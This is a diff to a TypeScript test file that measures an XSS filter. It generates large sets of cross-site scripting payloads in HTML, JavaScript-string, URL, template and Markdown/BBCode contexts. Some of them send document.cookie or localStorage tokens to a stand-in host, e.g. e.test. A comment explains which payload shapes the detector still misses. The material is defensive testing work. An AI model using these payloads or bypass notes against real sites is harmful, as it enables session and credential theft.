@@ -8,7 +8,24 @@
 // apostrophes in text, '<' in comparisons and arrows, on* words, URLs with queries, Markdown code, templates.
 // Measured when written (round 10, before any detector change): 13,758/14,073 attacks (html 7,722/7,722, break-outs
 // 944/944, JS string break-outs 4,088/4,400, URL contexts 600/600, templates and polyglots 77/77, encodings 327/330);
-// ordinary values 20/615 flagged (14 by xss.js-uri: "javascript: the good parts" with punctuation after it).
+// ordinary values 20/615 flagged (13 by xss.js-uri: "javascript: the good parts" with punctuation after it).
+// Changed since (xss.ts): a dialog, a global or a script scheme glued to '<' is read as outside a tag ('<alert(1)//,
+// Markdown autolinks <javascript:...>, <data:text/html,...>); a tagged-template call right after leaving a string
+// (';print`1`//); a script scheme followed by two names with only a space between is prose (a syntax error runs nothing).
+// Misses left, and why:
+// - '+name() and '+location=... : in a query '+' is a space, so the value is ' print() ' (a string and a name: no script);
+//   %2B-encoded it is concatenation, which the break-out watch leaves out on purpose ("a"+b.c() is everyday code).
+// - print() and other names that are no dialog after / % == < > , ? : in instanceof ('/print()-', ',print()//'): the
+//   break-out watch takes only - * ; || && ^ | & } (quoted paths '/user(s)', SQL LIKE '%x(', CSV and formulas ',f(',
+//   JSON "k":f()); a dialog (alert confirm prompt eval ...) is caught there by itself.
+// - '<location=..., '==location=..., '?location=..., ' in location=... (and '<onerror=alert;throw 1, '<document.location=name):
+//   an assignment to a comparison or an operator's result is a SyntaxError ('x'<location=... is ('x'<location)=...): nothing runs.
+// - ',location='//e.test' (valid: the comma operator), ';location.assign('//e.test')//, ';$.getScript(...)//: navigation and
+//   jQuery after leaving a string; open redirects rather than script, and ',name= is CSV-like.
+// - ${print`1`} ${fetch(...)} ${location.assign(...)} ${a=alert,a`1`}: a call of a name that is no dialog inside a template
+//   literal's ${} is everyday template code (see xss.ts, pend kind 16).
+// - \74script\76...: legacy octal escapes in a JS string (\74 is '<'); the decoder (decode.ts, shared) undoes \x3c and \u003c
+//   but not octal; the words glue to the digits (76alert), so neither the tag nor the sink is read.
 // Set SWEEP_DUMP=dir to write each sweep's misses (and the benign sweep's flagged values) to dir.
 import { describe, it, expect, beforeAll, afterAll } from 'vitest';
 import { writeFileSync } from 'node:fs';
@@ -197,6 +214,43 @@ function encodingSweep(): string[] {
   return [...new Set(out)];
 }
 
+/** JavaScript sinks spelled every way the cheat sheets list (calls without parentheses, through globals, aliases,
+ * callbacks, code from strings, navigation and exfiltration), each in the contexts that run it. */
+function sinkSweep(): string[] {
+  const acts = ['window.alert(1)', 'self.alert(1)', 'top.alert(1)', 'parent.alert(1)', 'frames.alert(1)', 'globalThis.alert(1)', 'this.alert(1)',
+    'this[\'alert\'](1)', '(0,alert)(1)', 'alert.apply(null,[1])', 'alert.bind()(1)', '[1].map(alert)', '[1].forEach(confirm)', '[8].find(confirm)',
+    'Promise.reject(1).catch(alert)', 'setTimeout(alert,0,1)', 'setInterval`alert\x281\x29`', 'eval.call(null,\'alert(1)\')', 'Function`a${\'alert(1)\'}```',
+    'new Function(\'alert(1)\')()', 'Function.prototype.constructor(\'alert(1)\')()', '[].constructor.constructor(\'alert(1)\')()', '\'\'.constructor.constructor(\'alert(1)\')()',
+    'eval(location.hash.slice(1))', 'eval(decodeURIComponent(location.hash.slice(1)))', 'eval(atob(location.hash.slice(1)))', 'eval(String.fromCharCode(97,108,101,114,116,40,49,41))',
+    'eval(\'\\x61lert(1)\')', 'eval(\'\\u0061lert(1)\')', 'location=\'javascript:alert(1)\'', 'location.href=\'javascript:alert(1)\'', 'top.location=\'//e.test\'',
+    'location.assign(\'//e.test\')', 'location.replace(\'javascript:alert(1)\')', 'open(\'javascript:alert(1)\')', 'window.open(\'//e.test/?\'+document.cookie)',
+    'navigator.sendBeacon(\'//e.test\',document.cookie)', 'new Image().src=\'//e.test/?\'+document.cookie', 'fetch(\'//e.test\',{method:\'POST\',body:document.cookie})',
+    'new Audio(\'//e.test/?\'+document.cookie)', 'document.body.innerHTML=\'<img src=x onerror=alert(1)>\'', 'document.write(\'<script src=//e.test></scr\'+\'ipt>\')',
+    'document.body.appendChild(document.createElement(\'script\')).src=\'//e.test\'', '$.getScript(\'//e.test/x.js\')', 'import(\'data:text/javascript,alert(1)\')',
+    'onerror=alert;throw 1', 'throw onerror=alert,1', '{onerror=alert}throw 1', 'onerror=eval;throw\'=alert\\x281\\x29\'', 'valueOf=alert;window+\'\'',
+    'toString=alert;window+1', 'x=alert;x(1)', 'a=alert,a`1`', 'Reflect.apply(alert,window,[1])', 'Reflect.construct(Function,[\'alert(1)\'])()',
+    'window[\'al\'+\'ert\'](1)', 'window[atob(\'YWxlcnQ=\')](1)', 'top[/al/.source+/ert/.source](1)', 'self[8680439..toString(30)](1)', 'alert(/XSS/.source)',
+    'prompt`1`', 'confirm`1`', 'print`1`', 'alert(document.domain)', 'alert(window.origin)', 'alert(localStorage.getItem(\'token\'))', 'alert(sessionStorage.key(0))',
+    'fetch(\'//e.test/?\'+localStorage.token)', 'document.cookie=\'session=x\'', 'document.domain=\'e.test\'', 'postMessage(document.cookie,\'*\')'];
+  const contexts = [(a: string) => `<img src=x onerror=${a}>`, (a: string) => `<svg onload="${a}">`, (a: string) => `<script>${a}</script>`,
+    (a: string) => `javascript:${a}`, (a: string) => `';${a}//`, (a: string) => `"-${a}-"`, (a: string) => `<a href="javascript:${a}">x</a>`,
+    (a: string) => `</script><script>${a}</script>`, (a: string) => `\${${a}}`, (a: string) => `<details open ontoggle='${a}'>`];
+  return acts.flatMap((a) => contexts.map((c) => c(a)));
+}
+
+/** Markup languages that render links and images: Markdown, BBCode, wiki text, with a script scheme or an attribute break-out. */
+function markupSweep(): string[] {
+  const urls = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&#58;alert(1)', 'java%0ascript:alert(1)', 'javascript:alert`1`',
+    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'javascript:fetch(\'//e.test/\'+document.cookie)', ' javascript:alert(1)', 'javascript://%0aalert(1)',
+    'vbscript:msgbox(1)'];
+  const shapes = [(u: string) => `[x](${u})`, (u: string) => `[x](${u} "title")`, (u: string) => `![x](${u})`, (u: string) => `[x]: ${u}`, (u: string) => `<${u}>`,
+    (u: string) => `[url=${u}]x[/url]`, (u: string) => `[url]${u}[/url]`, (u: string) => `[img]${u}[/img]`, (u: string) => `[${u} x]`, (u: string) => `[[x|${u}]]`];
+  const out = urls.flatMap((u) => shapes.map((s) => s(u)));
+  out.push('![x](x"onerror="alert(1))', '[x](x" onmouseover="alert(1))', '[img]x" onerror="alert(1)[/img]', '[url=x onmouseover=alert(1)]x[/url]',
+    '[color=red;background:url(javascript:alert(1))]x[/color]', '<details open ontoggle=alert(1)>**x**</details>');
+  return out;
+}
+
 function benignSweep(): string[] {
   const subjects = ['Tom', "O'Brien", 'the "Pro" plan', 'my order', "Dr. O'Connor's office", 'Café Olé', 'R&D', 'Q&A', 'the <b> tag', 'a < b', 'x > 3',
     "it's", "don't", 'Smith & Sons', 'AT&T', '"quoted"', 'the onload event', 'online', 'one=1', 'onion rings', 'the alert', 'javascript: the good parts',
@@ -214,18 +268,20 @@ function benignSweep(): string[] {
   return [...new Set(out)];
 }
 
-// measured when written (round 10, before any change), blocked / total
-const sweeps: Array<[string, () => string[], number, number]> = [
-  ['html: tag x event x helper x separator x quoting x action', htmlSweep, 7722, 7722],
-  ['break-outs: attribute and raw-text prefixes x injection', breakoutSweep, 944, 944],
-  ['JS string break-outs: quote x operator x action x suffix', jsStringSweep, 4400, 4088],
-  ['URL contexts: scheme spelling x action x carrier', urlSweep, 600, 600],
-  ['template injection and polyglots', templateSweep, 77, 77],
-  ['encodings of a base set', encodingSweep, 330, 327],
+// [name, generator, total, blocked when written (round 10, before any change), blocked now (the floor)]
+const sweeps: Array<[string, () => string[], number, number, number]> = [
+  ['html: tag x event x helper x separator x quoting x action', htmlSweep, 7722, 7722, 7722],
+  ['break-outs: attribute and raw-text prefixes x injection', breakoutSweep, 944, 944, 944],
+  ['JS string break-outs: quote x operator x action x suffix', jsStringSweep, 4400, 4088, 4174],
+  ['URL contexts: scheme spelling x action x carrier', urlSweep, 600, 600, 600],
+  ['template injection and polyglots', templateSweep, 77, 77, 77],
+  ['encodings of a base set', encodingSweep, 330, 327, 327],
+  ['sink spellings x contexts that run them', sinkSweep, 710, 699, 701],
+  ['markup languages: links and images', markupSweep, 106, 100, 106],
 ];
 
 describe('xss sweeps (generated)', () => {
-  for (const [name, gen, total, floor] of sweeps) {
+  for (const [name, gen, total, , floor] of sweeps) {
     it(name, () => {
       const all = gen();
       const missed = all.filter((p) => !blocked(p));
@@ -241,6 +297,7 @@ describe('xss sweeps (generated)', () => {
     dump('benign', flagged);
     console.log(`benign: ${flagged.length}/${all.length}`);
     expect(all.length).toBe(615);
-    expect(flagged.length, `flagged:\n${flagged.join('\n')}`).toBeLessThanOrEqual(20); // 20/615 when written: 14 xss.js-uri ("javascript: the good parts" with punctuation after it), 6 by cmdi/sqli rules
+    expect(flagged.length, `flagged:\n${flagged.join('\n')}`).toBeLessThanOrEqual(7); // 20/615 when written: 13 xss.js-uri ("javascript: the good parts" with punctuation after it), 7 by
+    // cmdi/sqli rules (`npm install` in backticks, AT&T; ..., ${name}; ..., 1 < 2 && 3 > 2); 7/615 now, none by an xss rule
   });
 });
